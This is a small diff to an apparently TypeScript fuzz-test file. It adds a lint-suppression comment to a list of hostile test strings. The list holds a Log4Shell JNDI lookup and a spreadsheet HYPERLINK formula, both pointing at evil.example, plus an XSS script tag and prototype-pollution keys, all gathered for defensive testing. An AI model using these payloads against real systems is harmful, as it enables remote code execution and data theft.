@@ -176,6 +176,7 @@ export const hostileString: fc.Arbitrary<string> = fc.oneof(
     '%zz',
     '<script>alert(1)</script>',
     '=HYPERLINK("http://evil.example")',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection payload, as sent.
     '${jndi:ldap://evil.example/a}',
     '__proto__',
     'constructor',
